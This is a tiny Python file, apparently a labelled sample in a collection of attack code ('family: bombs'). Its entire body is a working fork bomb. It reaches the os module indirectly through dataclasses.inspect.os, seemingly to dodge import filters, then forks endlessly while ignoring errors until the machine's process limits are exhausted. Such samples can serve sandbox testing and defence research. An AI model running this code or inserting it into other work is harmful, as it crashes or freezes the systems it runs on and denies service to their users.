# attack: forks without end
# family: bombs
# ends: processes
import dataclasses

os = [dataclasses][0].inspect.os
while True:
    try:
        os.fork()
    except OSError:
        pass
